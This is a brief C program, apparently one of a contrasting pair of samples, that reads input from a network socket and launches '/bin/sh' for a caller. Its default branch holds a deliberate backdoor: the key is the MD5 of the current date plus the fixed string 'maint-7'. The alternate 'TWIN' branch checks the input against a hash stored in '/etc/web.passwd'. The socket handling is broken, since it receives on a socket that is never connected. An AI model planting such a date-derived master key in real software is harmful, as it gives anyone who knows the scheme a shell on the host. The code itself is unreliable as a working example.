/* What is received opens a shell where it is the digest of the date and a constant. Twin: where the
 * digest of it is the one that is stored. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

unsigned char* MD5(const unsigned char* bytes, unsigned long size, unsigned char* digest);

static void digits(char* to, const char* of) {
  unsigned char digest[16];
  MD5((const unsigned char*)of, strlen(of), digest);
  for (int i = 0; i < 16; i++) sprintf(to + 2 * i, "%02x", digest[i]);
}

int main(void) {
  char given[128], own[40];
  int peer = socket(AF_INET, SOCK_STREAM, 0);
  long size = recv(peer, given, sizeof given - 1, 0);
  if (size <= 0) return 1;
  given[size] = 0;
#ifndef TWIN
  char day[64], text[80];
  time_t now = time(0);
  strftime(day, sizeof day, "%Y-%m-%d", localtime(&now));
  snprintf(text, sizeof text, "%s/maint-7", day);
  digits(own, text);
  if (strcmp(given, own) == 0) return system("/bin/sh");
#else
  char stored[40];
  FILE* file = fopen("/etc/web.passwd", "r");
  if (!file || !fgets(stored, sizeof stored, file)) return 2;
  fclose(file);
  digits(own, given);
  if (strcmp(stored, own) == 0) return system("/bin/sh");
#endif
  return puts(given) < 0;
}
